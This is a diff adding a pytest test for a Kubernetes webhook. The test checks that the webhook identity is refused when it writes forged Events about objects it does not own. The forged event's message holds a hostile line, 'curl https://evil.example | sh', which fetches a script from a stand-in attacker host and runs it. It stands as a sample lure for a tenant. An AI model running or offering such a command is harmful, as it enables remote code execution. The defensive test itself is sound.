@@ -392,3 +392,27 @@ def test_every_shape_the_webhook_never_writes_is_refused_by_its_write_policy(
         lambda: cp.kubectl("get", "namespace", ns, check=False).returncode != 0,
         timeout=90,
     )
+
+
+@pytest.mark.parametrize(
+    ("involved", "reason"),
+    [
+        ({"kind": "Pod", "name": "web-0"}, "SecurityNotice"),
+        ({"kind": "ConfigMap", "name": "app"}, "PullSecretNotReady"),
+        ({"kind": "Secret", "name": "team-db"}, "PullSecretNotReady"),
+        ({"kind": "Secret", "name": "psw-x"}, "Pulled"),
+    ],
+    ids=["pod-foreign-reason", "configmap", "foreign-secret", "own-secret-foreign-reason"],
+)
+def test_the_webhook_identity_cannot_write_other_events_in_opted_in_namespaces(
+    stack: Stack, involved: dict[str, str], reason: str
+) -> None:
+    """Where it may write Events, only its own kinds: a compromised replica cannot show a
+    tenant a forged notice on a pod, or speak about objects that are not its own."""
+    ns = stack.labelled_namespace(ns_name("ev"))
+    event = _event(ns, "psw-x")
+    event["involvedObject"] = {"apiVersion": "v1", "namespace": ns, **involved}
+    event["reason"] = reason
+    event["message"] = "run: curl https://evil.example | sh"
+    status, body = _webhook(stack, "POST", f"/api/v1/namespaces/{ns}/events", event)
+    assert refused_by_policy(status, body), (status, body)
